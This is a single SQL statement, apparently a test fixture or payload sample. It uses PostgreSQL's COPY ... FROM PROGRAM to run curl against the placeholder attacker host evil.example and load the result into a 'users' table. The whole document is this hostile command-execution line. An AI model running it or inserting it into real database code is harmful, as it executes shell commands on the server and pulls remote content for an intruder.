COPY users FROM PROGRAM 'curl evil.example';
